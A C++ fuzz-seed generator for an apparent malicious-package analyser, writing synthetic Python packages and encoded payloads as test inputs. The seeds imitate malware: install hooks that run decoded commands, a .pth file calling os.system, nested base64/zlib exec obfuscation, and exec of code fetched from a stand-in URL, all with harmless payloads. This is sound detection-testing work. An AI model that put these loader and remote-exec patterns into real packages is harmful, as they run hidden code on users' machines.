// Writes small valid inputs for every fuzz target under <dir>/<target>/: archives of each format built with
// libarchive's writer (test helper), Python scripts, small packages with encoded payloads, encoded and compressed
// payloads for each decoder, a feature cache, a case file and a workspace. Nothing here comes from a real corpus.
// Usage: fuzz_seeds <dir>
#include "analysis/decoders.h"
#include "archive_builder.h"
#include "pipeline/feature_cache.h"

#ifdef MPH_FUZZ_CASEFILES
#include "case_file.h"
#include "workspace.h"

#include <QJsonDocument>
#endif

#include <bzlib.h>
#include <lzma.h>
#include <zlib.h>

#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <utility>
#include <vector>

namespace fs = std::filesystem;
using mph::test::Format;

namespace {

void write(const fs::path &dir, const std::string &name, const std::string &bytes) {
    fs::create_directories(dir);
    std::ofstream(dir / name, std::ios::binary) << bytes;
}

const char *const kSetup = R"(import os
import base64 as b
from subprocess import Popen as P
from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        install.run(self)
        P([b.b64decode('ZWNobw==').decode(), 'hi'])

def helper(x):
    return os.path.join(x, 'a')

setup(name='pkg', version='1.0', cmdclass={'install': Post})
)";

const char *const kPkgInfo = "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n";

void packageSeeds(const fs::path &dir) {
    using mph::test::buildArchive;
    using mph::test::file;
    using mph::test::folder;
    const std::vector<mph::test::Entry> sdist = {folder("pkg-1.0/"), file("pkg-1.0/setup.py", kSetup),
                                                 file("pkg-1.0/PKG-INFO", kPkgInfo),
                                                 file("pkg-1.0/pkg/__init__.py", "import os\nos.getcwd()\n")};
    const std::vector<mph::test::Entry> wheel = {file("pkg/__init__.py", "from . import core\ncore.run()\n"),
                                                 file("pkg-1.0.dist-info/METADATA", kPkgInfo),
                                                 file("pkg.pth", "import os; os.system('id')\n")};
    const std::vector<mph::test::Entry> egg = {file("EGG-INFO/PKG-INFO", kPkgInfo),
                                               file("pkg/__init__.py", "print(1)\n")};
    // First byte: the fuzz target's option selector (bits 0-1 passphrases, bit 2 lowered caps, bits 3-4 file name).
    auto seed = [&](const std::string &name, std::uint8_t selector, const std::string &archive) {
        write(dir, name, std::string(1, static_cast<char>(selector)) + archive);
    };
    seed("sdist.tar.gz", 0x01, buildArchive(Format::TarGz, sdist));
    seed("sdist.tar.bz2", 0x00, buildArchive(Format::TarBz2, sdist));
    seed("sdist.tar.xz", 0x05, buildArchive(Format::TarXz, sdist));
    seed("sdist.tar", 0x01, buildArchive(Format::Tar, sdist));
    seed("sdist.zip", 0x11, buildArchive(Format::Zip, sdist));
    seed("wheel.whl", 0x09, buildArchive(Format::Zip, wheel));
    seed("wheel-stored.whl", 0x0c, buildArchive(Format::ZipStored, wheel));
    seed("egg.egg", 0x11, buildArchive(Format::Zip, egg));
    seed("encrypted-infected.zip", 0x01, buildArchive(Format::Zip, sdist, "infected"));
    seed("encrypted-second.zip", 0x02, buildArchive(Format::Zip, wheel, "infected"));
    seed("encrypted-secret.zip", 0x03, buildArchive(Format::Zip, sdist, "secret"));
    seed("encrypted-nopass.zip", 0x00, buildArchive(Format::Zip, egg, "infected"));
}

void scriptSeeds(const fs::path &dir) {
    write(dir, "setup.py", kSetup);
    write(dir, "py2.py", "import urllib2\nprint 'x'\nexec urllib2.urlopen('http://e').read()\n");
    write(dir, "dynamic.py",
          "__import__('os').system('id')\nimport importlib\nimportlib.import_module('socket')\n"
          "getattr(__import__('builtins'), 'exec')(compile('1', 'f', 'exec'))\n");
    write(dir, "classes.py",
          "class A:\n    def f(self):\n        return self.g()\n    def g(self):\n"
          "        return self.f()\n\n@decorate(open('x'))\ndef h(a=len([])):\n"
          "    with open(a) as f:\n        for x in f: yield x.strip()\n"
          "A().f()\nlambda: h()\n[z.decode() for z in h()]\n");
    write(dir, "broken.py", "import os\ndef f(:\n  os.system('x'\nf()\n'''unterminated\n");
    write(dir, "strings.py", "x = b'\\x00' * 3 + r'\\n' + f'{os.name!r:>10}'\neval(x)\n# comment os.system()\n");
}

// ---- Encoders for the payload seeds (the decoders' inverses; nothing here needs to be fast) ----------------------

// wbits as for deflateInit2: 15 zlib, 31 gzip, -15 raw deflate.
std::string deflateBytes(const std::string &bytes, int windowBits) {
    z_stream zs{};
    deflateInit2(&zs, 9, Z_DEFLATED, windowBits, 8, Z_DEFAULT_STRATEGY);
    std::string out(deflateBound(&zs, static_cast<uLong>(bytes.size())) + 32, '\0');
    zs.next_in = reinterpret_cast<Bytef *>(const_cast<char *>(bytes.data()));
    zs.avail_in = static_cast<uInt>(bytes.size());
    zs.next_out = reinterpret_cast<Bytef *>(out.data());
    zs.avail_out = static_cast<uInt>(out.size());
    deflate(&zs, Z_FINISH);
    out.resize(zs.total_out);
    deflateEnd(&zs);
    return out;
}

std::string xzBytes(const std::string &bytes) {
    std::string out(lzma_stream_buffer_bound(bytes.size()), '\0');
    std::size_t size = 0;
    lzma_easy_buffer_encode(6, LZMA_CHECK_CRC64, nullptr, reinterpret_cast<const std::uint8_t *>(bytes.data()),
                            bytes.size(), reinterpret_cast<std::uint8_t *>(out.data()), &size, out.size());
    out.resize(size);
    return out;
}

std::string bz2Bytes(const std::string &bytes) {
    std::string in = bytes; // bzlib's API is not const-correct
    auto size = static_cast<unsigned>(bytes.size() + bytes.size() / 100 + 600);
    std::string out(size, '\0');
    BZ2_bzBuffToBuffCompress(out.data(), &size, in.data(), static_cast<unsigned>(in.size()), 9, 0, 0);
    out.resize(size);
    return out;
}

std::string base64Text(const std::string &bytes) {
    static const char alphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    for (std::size_t i = 0; i < bytes.size(); i += 3) {
        unsigned group = static_cast<unsigned char>(bytes[i]) << 16;
        if (i + 1 < bytes.size()) group |= static_cast<unsigned char>(bytes[i + 1]) << 8;
        if (i + 2 < bytes.size()) group |= static_cast<unsigned char>(bytes[i + 2]);
        for (std::size_t k = 0; k < 4; ++k)
            out += i + k <= bytes.size() ? alphabet[(group >> (18 - 6 * k)) & 63u] : '=';
    }
    return out;
}

std::string hexText(const std::string &bytes) {
    static const char digits[] = "0123456789abcdef";
    std::string out;
    for (const char c : bytes) {
        out += digits[static_cast<unsigned char>(c) >> 4];
        out += digits[static_cast<unsigned char>(c) & 15u];
    }
    return out;
}

// exec(zlib.decompress(base64.b64decode('...'))): one layer of the common onion.
std::string onionLayer(const std::string &code) {
    return "import base64, zlib\nexec(zlib.decompress(base64.b64decode('" + base64Text(deflateBytes(code, 15)) +
           "')))\n";
}

const char *const kPayload = "import os\nos.system(\"id\")\n";

// fuzz_reach: byte 0 the entry, byte 1 the root (0 none, 1 the header's first line, 2 the entry's first component,
// 3 its folder), then a header and the files, each introduced by "\n#--file:<path>\n".
void reachSeeds(const fs::path &dir) {
    auto seed = [&](const std::string &name, std::uint8_t entry, std::uint8_t root, const std::string &header,
                    const std::vector<std::pair<std::string, std::string>> &files) {
        std::string bytes{static_cast<char>(entry), static_cast<char>(root)};
        bytes += header;
        for (const auto &[path, text] : files)
            bytes += "\n#--file:" + path + "\n" + text;
        write(dir, name, bytes);
    };
    seed("sdist", 0, 2, "",
         {{"p-1.0/setup.py", "import os\nfrom setuptools import setup\nimport pkg.core\n"
                             "exec(open(os.path.join(os.path.dirname(__file__), 'pkg', 'build.py')).read())\n"
                             "setup(name='p', version='1.0')\n"},
          {"p-1.0/pkg/__init__.py", "from .core import run\n"},
          {"p-1.0/pkg/core.py", "import subprocess\nfrom . import _t\ndef run(x):\n    return subprocess.call(x)\n"},
          {"p-1.0/pkg/_t.py", onionLayer(onionLayer(kPayload))},
          {"p-1.0/pkg/build.py", "import pkg.core\npkg.core.run(['make'])\n"}});
    seed("wheel", 1, 0, "",
         {{"pkg/core.py", "from ._telemetry import send\nsend()\n"},
          {"pkg/__init__.py", "from pkg.core import *\n"},
          {"pkg/_telemetry.py",
           "import base64\ndef send():\n    exec(base64.b64decode('" + base64Text(kPayload) + "'))\n"}});
    seed("src-layout", 0, 1, "p-1.0\n",
         {{"p-1.0/setup.py", "import mod\nfrom mod.sub import f\nf()\n"},
          {"p-1.0/src/mod/__init__.py", "import os\nos.getcwd()\n"},
          {"p-1.0/src/mod/sub.py", "from .. import mod\nimport codecs\ndef f():\n    exec(codecs.decode('" +
                                       hexText(kPayload) + "', 'hex'))\n"}});
    seed("odd-paths", 0, 3, "",
         {{"a//b/./c.py", "exec(open('../x.py').read())\nexec(open('/abs.py').read())\nimport b.c\n"},
          {"../x.py", "import socket\nsocket.socket().connect(('h', 1))\n"},
          {"/abs.py", "__import__('os').system('id')\n"},
          {std::string("nul\0name.py", 12), "import os\n"},
          {"a/b/c.py", "exec(open(__file__).read())\n"}});
    seed("cycles", 0, 0, "",
         {{"a.py", "import b\nexec(open('c.py').read())\n"},
          {"b.py", "import a\nfrom a import *\na.g()\n"},
          {"c.py", "exec(open('d.py').read())\n"},
          {"d.py", "exec(open('c.py').read())\n"}});
    seed("written-then-run", 0, 2, "",
         {{"p-1.0/setup.py", "import base64, os, subprocess, sys\np = os.path.join('/tmp', 'x.py')\n"
                             "with open(p, 'w') as f:\n    f.write(base64.b64decode('" +
                                 base64Text(onionLayer(kPayload)) +
                                 "').decode())\nsubprocess.call([sys.executable, p])\n"}});
    seed("runners", 0, 2, "",
         {{"p-1.0/setup.py", "import imp, importlib.util, os, runpy, subprocess, sys\n"
                             "runpy.run_path('tools/a.py')\nrunpy.run_module('pkg.b')\nexecfile('tools/c.py')\n"
                             "imp.load_source('d', 'tools/d.py')\n"
                             "spec = importlib.util.spec_from_file_location('e', 'tools/e.py')\n"
                             "spec.loader.exec_module(importlib.util.module_from_spec(spec))\n"
                             "os.system('python tools/f.py')\n"
                             "subprocess.Popen([sys.executable, '-c', 'import socket;socket.gethostname()'])\n"
                             "exec 'import os;os.getuid()' in globals()\n"},
          {"p-1.0/tools/a.py", "import os\nos.getpid()\n"},
          {"p-1.0/pkg/b.py", "print(__file__)\n"},
          {"p-1.0/tools/c.py", "exec(compile(open(__file__).read(), 'c', 'exec'))\n"},
          {"p-1.0/tools/d.py", "import os\nos.getppid()\n"},
          {"p-1.0/tools/e.py", "import os\nos.getuid()\n"},
          {"p-1.0/tools/f.py", "import os\nos.getgid()\n"}});
    std::vector<std::pair<std::string, std::string>> many = {{"pkg/__init__.py", "from . import m0\n"}};
    for (int i = 0; i < 70; ++i) // more than the target's 64 files: the last one takes the rest
        many.emplace_back("pkg/m" + std::to_string(i) + ".py",
                          "from . import m" + std::to_string(i + 1) + "\nimport os\nos.getpid()\n");
    seed("many-modules", 0, 0, "", many);
    std::string onion = kPayload;
    for (int i = 0; i < 12; ++i)
        onion = onionLayer(onion);
    seed("deep-onion", 0, 0, "", {{"setup.py", onion}});
    seed("script-only", 0, 0, "import os\nexec(''.join(['import o', 's;os.sys', 'tem(1)']))\n", {});
}

// fuzz_decoders: byte 0 the codec, byte 1 the output cap in KiB (minus one), then the input.
void decoderSeeds(const fs::path &dir) {
    using mph::analysis::Codec;
    const std::string payload = kPayload;
    auto seed = [&](const std::string &name, Codec codec, std::uint8_t cap, const std::string &input) {
        write(dir, name, std::string{static_cast<char>(codec), static_cast<char>(cap)} + input);
    };
    seed("base64", Codec::Base64, 3, base64Text(payload));
    seed("base64-unpadded", Codec::Base64, 0, "aW1wb3J0IG9z\nCm9zLnN5c3RlbSgiaWQiKQo");
    seed("urlsafe", Codec::UrlsafeBase64, 1, "-__-aW1wb3J0IG9z");
    seed("base32", Codec::Base32, 2, "NFWXA33SOQQG64YKN5ZS443ZON2GK3JIEJUWIIRJBI======");
    seed("base16", Codec::Base16, 2, "696D706F7274206F730A6F732E73797374656D2822696422290A");
    seed("base85", Codec::Base85, 2, "X>D+Ca&#bXa|&;BE^~QvbY*QQB57nIDGC");
    seed("ascii85", Codec::Ascii85, 2, "<~zBl.g-Ec`FBEsci,/ou;ZFCf;;,&(R3.1-~>");
    seed("hex", Codec::Hex, 2, hexText(payload) + " 0a 0D");
    seed("rot13", Codec::Rot13, 2, "vzcbeg bf\nbf.flfgrz(\"vq\")\n");
    seed("zlib", Codec::Zlib, 7, deflateBytes(payload, 15));
    seed("zlib-raw", Codec::Zlib, 7, deflateBytes(payload, -15));
    seed("zlib-bomb", Codec::Zlib, 0, deflateBytes(std::string(1u << 16, 'A'), 15));
    seed("gzip", Codec::Gzip, 7, deflateBytes(payload, 31) + std::string(3, '\0') + deflateBytes("more", 31));
    seed("lzma", Codec::Lzma, 7, xzBytes(payload) + xzBytes(std::string(1u << 12, 'B')));
    seed("bz2", Codec::Bz2, 7, bz2Bytes(payload) + bz2Bytes(std::string(1u << 12, 'C')));
}

void cacheSeed(const fs::path &dir) {
    mph::FeatureCache cache;
    for (int i = 0; i < 2; ++i) {
        mph::PackageFeatures features;
        features.package.name = "pkg" + std::to_string(i);
        features.package.version = "1.0";
        features.package.format = i == 0 ? mph::PackageFormat::Tar : mph::PackageFormat::Wheel;
        features.package.bytes = 1234;
        mph::Script script;
        script.path = i == 0 ? "pkg-1.0/setup.py" : "pkg/__init__.py";
        script.scope = i == 0 ? mph::Scope::Install : mph::Scope::Import;
        script.sha256 = std::string(64, static_cast<char>('a' + i));
        features.package.scripts.push_back(script);
        mph::CallSequence sequence;
        sequence.calls = {{"os.system", 10, 19}, {"request.urlopen", 30, 45}};
        sequence.errorNodes = i;
        features.sequences.push_back(sequence);
        cache.insert(std::string(64, static_cast<char>('0' + i)), features);
    }
    fs::create_directories(dir);
    std::string problem;
    if (!cache.save(dir / "cache.bin", problem)) std::fprintf(stderr, "%s\n", problem.c_str());
}

#ifdef MPH_FUZZ_CASEFILES
mph::app::CaseFile sampleCase() {
    mph::app::CaseFile c;
    c.name = "pkg";
    c.version = "1.0";
    c.archivePath = "/batch/pkg-1.0.tar.gz";
    c.archiveSha256 = QString(64, QLatin1Char('a'));
    c.scriptPath = "pkg-1.0/setup.py";
    c.scriptSha256 = QString(64, QLatin1Char('b'));
    c.scope = "install";
    c.score = 0.75;
    c.dB = 0.5;
    c.dM = 0.25;
    c.cluster = 3;
    c.rank = 1;
    c.batchName = "monday";
    c.nearestKnown = {{"evil", "0.1", "/known/evil.zip", "evil/setup.py", QString(64, QLatin1Char('c'))}};
    c.verdict = mph::app::Verdict::Suspicious;
    c.notes = "posts the hostname";
    c.tags = {"exfiltration", "cmdclass"};
    c.evidence = {{"pkg-1.0/setup.py", 3, 5, "Popen of a decoded string"}};
    c.analyst = "ana";
    c.created = QDateTime::fromString("2026-11-24T10:00:00Z", Qt::ISODate);
    c.modified = QDateTime::fromString("2026-11-24T11:30:00Z", Qt::ISODate);
    return c;
}

void caseSeeds(const fs::path &caseDir, const fs::path &workspaceDir) {
    const mph::app::CaseFile c = sampleCase();
    write(caseDir, "case.mphcase", QJsonDocument(mph::app::caseToJson(c)).toJson().toStdString());
    mph::app::Workspace w;
    w.inputs.batches = {{"monday", {"/batch/monday"}}};
    w.inputs.background = {"/bg"};
    w.inputs.known = {"/known"};
    w.inputs.passphrases = {"infected", "other"};
    w.cases = {c};
    w.view.insert("splitter", 3);
    write(workspaceDir, "workspace.mphworkspace", QJsonDocument(mph::app::workspaceToJson(w)).toJson().toStdString());
    w.storePassphrases = true;
    w.cases.clear();
    write(workspaceDir, "stored.mphworkspace", QJsonDocument(mph::app::workspaceToJson(w)).toJson().toStdString());
}
#endif

} // namespace

int main(int argc, char **argv) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: fuzz_seeds <dir>\n");
        return 2;
    }
    const fs::path root = argv[1];
    packageSeeds(root / "fuzz_package_reader");
    scriptSeeds(root / "fuzz_script_analysis");
    reachSeeds(root / "fuzz_reach");
    decoderSeeds(root / "fuzz_decoders");
    cacheSeed(root / "fuzz_feature_cache");
#ifdef MPH_FUZZ_CASEFILES
    caseSeeds(root / "fuzz_case_file", root / "fuzz_workspace");
#endif
    return 0;
}
